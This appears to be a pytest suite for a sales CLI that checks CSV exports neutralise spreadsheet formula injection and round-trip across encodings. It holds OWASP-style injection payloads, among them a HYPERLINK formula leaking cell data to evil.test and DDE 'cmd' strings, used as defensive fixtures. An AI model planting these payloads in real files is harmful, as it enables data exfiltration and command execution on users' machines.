"""CSV a spreadsheet opens safely and correctly: no formula runs, `--excel` and `--encoding`
exports read back exactly, and a rejects file imports again once corrected."""

from __future__ import annotations

import codecs
import csv
import io
import json
import re

from fixtures.sample import ORDER, seed

from hypothesis import given
from hypothesis import strategies as st

from salescli import output, store

# Names a spreadsheet would run as formulas (OWASP's list), and their neighbours.
HOSTILE = [
    '=HYPERLINK("http://evil.test/?"&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''twice",
    "'plain apostrophe",
    "'",
    '="0123"',
    "0123",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
EXCEL_TEXT = re.compile(r'="[0-9 +()./-]*"')  # --excel's ="0123": text to Excel, and no formula


def _hostile_database(path) -> None:
    """Customers named as above (a leading tab or CR cannot be typed, so straight into
    the file), with phones and tags as hostile, and a deal whose margin is negative."""
    seed(path)
    conn = store.connect(path)
    with conn:
        for number, name in enumerate(HOSTILE, start=10):
            conn.execute(
                "INSERT INTO customer (id, name, phone, notes, fields, created_at, updated_at) VALUES (?, ?, ?, ?, ?, ?, ?)",
                [number, name, "+1 555 0100", "-5 apples", json.dumps({"vat": "=1+1"}), "2026-01-01 10:00:00", "2026-01-01 10:00:00"],
            )
            conn.execute("INSERT INTO customer_tag VALUES (?, ?)", [number, "@vip"])
    conn.close()


def _rows(data: bytes | str, encoding: str = "utf-8", delimiter: str = ",") -> list[list[str]]:
    text = data if isinstance(data, str) else data.decode(encoding)
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def _no_formulas(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (cell, row)


def test_hostile_names_are_neutralised_and_round_trip_exactly(cli, isolated, tmp_path):
    _hostile_database(isolated)
    exported = cli("export", "customers").stdout
    _no_formulas(_rows(exported))
    names = {row[0]: row[1] for row in _rows(exported)[1:]}
    assert names["10"] == "'" + HOSTILE[0]
    assert names["16"] == "''=already quoted" and names["17"] == "'''twice"
    assert names["18"] == "'plain apostrophe" and names["19"] == "'"  # nothing to take off again
    assert names["20"] == "'=\"0123\"" and names["21"] == "0123"
    for entity in ORDER:
        text = cli("export", entity, "-o", tmp_path / f"{entity}.csv").stdout
        assert text == ""
        _no_formulas(_rows((tmp_path / f"{entity}.csv").read_bytes()))
    copy = tmp_path / "copy.db"
    for entity in ORDER:
        cli("--db", copy, "import", entity, tmp_path / f"{entity}.csv")
    for entity in ORDER:
        assert cli("--db", copy, "export", entity).stdout.encode() == (tmp_path / f"{entity}.csv").read_bytes(), entity
    customers = sorted(cli.json("--db", copy, "customer", "list"), key=lambda c: c["id"])
    assert [c["name"] for c in customers if c["id"] >= 10] == HOSTILE


def test_listings_and_reports_neutralise_text_but_not_negative_numbers(cli, isolated):
    _hostile_database(isolated)
    deal = cli("deal", "add", "@Loss leader", "--customer=-2+3", "--owner", "alice", "--amount", "10", "--cost", "22.50").stdout
    cli("deal", "win", deal.strip())
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        rows = _rows(cli("customer", "list", "-f", fmt).stdout, delimiter=delimiter)
        _no_formulas(rows)
        assert [row[1] for row in rows if row[0] == "11"] == ["'+cmd|' /C calc'!A0"]
        deals = _rows(cli("deal", "list", "-f", fmt).stdout, delimiter=delimiter)
        _no_formulas(deals)
        assert [row[1:4] for row in deals if row[0] == deal.strip()] == [["'@Loss leader", "'-2+3+cmd|' /C calc'!A0", "10.00"]]
        reps = _rows(cli("report", "reps", "-p", "2026-11", "-f", fmt).stdout, delimiter=delimiter)
        alice = dict(zip(reps[0], reps[1]))
        assert (alice["rep"], alice["revenue"], alice["margin"], alice["margin_rate"]) == ("alice", "10.00", "-12.50", "-1.25")
    customers = _rows(cli("report", "customers", "-p", "2026-11", "-f", "csv").stdout)
    _no_formulas(customers)
    assert customers[1][1] == "'-2+3+cmd|' /C calc'!A0"


def test_excel_export_has_a_bom_crlf_and_numbers_kept_as_text(cli, isolated, tmp_path):
    _hostile_database(isolated)
    cli("customer", "edit", "0123", "--phone", "008613800138000")
    data = cli("export", "customers", "--excel").stdout_bytes
    assert data.startswith(codecs.BOM_UTF8)
    assert data.count(b"\r\n") == data.count(b"\n") - 1  # the one bare \n is inside Acme's notes
    rows = _rows(data, "utf-8-sig")
    _no_formulas([cell for cell in row if not EXCEL_TEXT.fullmatch(cell)] for row in rows)
    by_id = {row[0]: dict(zip(rows[0], row)) for row in rows[1:]}
    assert by_id["21"]["name"] == '="0123"' and by_id["21"]["phone"] == '="008613800138000"'
    assert by_id["10"]["phone"] == '="+1 555 0100"'
    assert by_id["2"]["phone"] == "13800138000"  # 11 digits: Excel shows them as they are
    assert by_id["20"]["name"] == "'=\"0123\""
    (tmp_path / "excel.csv").write_bytes(data)
    copy = _with_reps_and_products(cli, tmp_path)
    cli("--db", copy, "import", "customers", tmp_path / "excel.csv")
    assert cli("--db", copy, "export", "customers").stdout == cli("export", "customers").stdout


def test_excel_export_keeps_as_text_what_excel_would_turn_into_numbers_or_dates(cli, isolated, tmp_path):
    """`1-10` (a company size) became 10 January in Excel, `3/4` the 4th of March, `1.10` the
    number 1.1 and the sku `1E5` 100000: --excel writes every such text cell as ="…"."""
    cli("customer", "add", "Acme", "--size", "1-10", "--company", "3/4", "--title", "1.10", "--contact", "March 1",
        "--phone", "13800138000", "--note", "00:30", "--field", "share=50%", "--field", "since=3月4日",
        "--field", "ok=TRUE", "--no-followup")
    cli("product", "add", "1E5", "Widget", "--price", "5")
    rows = _rows(cli("export", "customers", "--excel").stdout_bytes, "utf-8-sig")
    acme = dict(zip(rows[0], rows[1]))
    assert [acme[key] for key in ("size", "company", "title", "contact", "notes", "field:share", "field:since", "field:ok")] == [
        '="1-10"', '="3/4"', '="1.10"', '="March 1"', '="00:30"', '="50%"', '="3月4日"', '="TRUE"']
    assert (acme["name"], acme["phone"], acme["created_at"]) == ("Acme", "13800138000", "2026-11-23 12:00:00")  # as they are
    products = _rows(cli("export", "products", "--excel").stdout_bytes, "utf-8-sig")
    assert dict(zip(products[0], products[1]))["sku"] == '="1E5"'
    (tmp_path / "excel.csv").write_bytes(cli("export", "customers", "--excel").stdout_bytes)
    copy = tmp_path / "copy.db"
    cli("--db", copy, "import", "customers", tmp_path / "excel.csv")
    assert cli("--db", copy, "export", "customers").stdout == cli("export", "customers").stdout


def _with_reps_and_products(cli, folder):
    """A second database holding the first one's reps and products (what customers refer to)."""
    copy = folder / "copy.db"
    for entity in ("reps", "products"):
        cli("export", entity, "-o", folder / f"{entity}.csv")
        cli("--db", copy, "import", entity, folder / f"{entity}.csv")
    return copy


def test_gb18030_and_bom_exports_decode_to_the_same_rows(cli, isolated, tmp_path):
    seed(isolated)
    plain = cli("export", "customers").stdout
    for encoding, codec in (("gb18030", "gb18030"), ("utf-8-sig", "utf-8-sig"), ("GBK", "gbk")):
        cli("export", "customers", "--encoding", encoding, "-o", tmp_path / f"{codec}.csv")
        data = (tmp_path / f"{codec}.csv").read_bytes()
        assert data.startswith(codecs.BOM_UTF8) == (codec == "utf-8-sig")
        assert data.decode(codec) == plain
        (tmp_path / codec).mkdir()
        copy = _with_reps_and_products(cli, tmp_path / codec)
        cli("--db", copy, "import", "customers", tmp_path / f"{codec}.csv")
        assert cli("--db", copy, "export", "customers").stdout == plain
    assert "北京科技有限公司".encode("gb18030") in (tmp_path / "gb18030.csv").read_bytes()


def test_an_encoding_that_cannot_write_a_name_says_which(cli, isolated):
    cli("customer", "add", "Café Zoë")
    assert cli("export", "customers", "--encoding", "latin-1").stdout_bytes.count("Café Zoë".encode("latin-1")) == 1
    cli("customer", "add", "Zürich 北京")
    assert "row 3 has '北' (U+5317), which latin-1 cannot write: use --encoding utf-8 or gb18030" in cli.fails(
        "export", "customers", "--encoding", "latin-1"
    )
    assert "row 3 has '北'" in cli.fails("export", "customers", "--encoding", "latin-1", "-o", isolated.parent / "out.csv")
    assert not (isolated.parent / "out.csv").exists()  # a failed export leaves no file
    cli("customer", "edit", "Café Zoë", "--field", "微信=x")
    assert "row 1 has '微' (U+5FAE)" in cli.fails("export", "customers", "--encoding", "ascii")
    assert "unknown encoding 'rot13'" in cli.fails("export", "customers", "--encoding", "rot13", code=2)
    assert "--excel is for CSV" in cli.fails("export", "customers", "--excel", "-f", "json", code=2)


def test_a_corrected_rejects_file_imports_quietly(cli, tmp_path):
    cli("customer", "add", "Acme Ltd")
    source = tmp_path / "deals.csv"
    source.write_text("title,customer,amount\n=cmd|' /C calc'!A0,Acme Ltd,12k\nGood one,Acme Ltd,5k\nTypo,Acme Tols,1k\n", encoding="utf-8")
    result = cli("import", "deals", source, "--skip-invalid")
    rejects = tmp_path / "deals.csv.rejects.csv"
    assert "1 rejected" in result.stdout
    rows = _rows(rejects.read_bytes())
    assert rows[0] == ["title", "customer", "amount", "error"]
    assert rows[1][:3] == ["Typo", "Acme Tols", "1k"] and len(rows) == 2
    _no_formulas(rows)
    rejects.write_bytes(rejects.read_bytes().replace(b"Acme Tols", b"Acme Ltd"))
    again = cli("import", "deals", rejects)
    assert "ignoring" not in again.stderr and "Warning" not in again.stderr
    assert "1 created" in again.stdout
    assert [d["title"] for d in cli.json("deal", "list")] == ["=cmd|' /C calc'!A0", "Good one", "Typo"]


def test_rejects_neutralise_a_formula_and_import_it_back(cli, tmp_path):
    source = tmp_path / "customers.csv"
    source.write_text("name,tier\n=HYPERLINK(\"x\"),Z\n'=quoted,Z\n", encoding="utf-8")
    cli("import", "customers", source, "--skip-invalid")
    rows = _rows((tmp_path / "customers.csv.rejects.csv").read_bytes())
    assert [row[0] for row in rows[1:]] == ["'=HYPERLINK(\"x\")", "'=quoted"]
    (tmp_path / "fixed.csv").write_bytes((tmp_path / "customers.csv.rejects.csv").read_bytes().replace(b",Z,", b",A,"))
    cli("import", "customers", tmp_path / "fixed.csv")
    assert sorted(c["name"] for c in cli.json("customer", "list")) == ["=HYPERLINK(\"x\")", "=quoted"]


@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r'\"0123456789 ()./aZ北")), max_size=8), st.booleans())
def test_every_text_reads_back_as_written(value, excel):
    cell = output.csv_safe(value, excel)
    assert output.csv_text(cell) == value
    assert not cell.startswith(FORMULA_STARTS) or (excel and EXCEL_TEXT.fullmatch(cell))
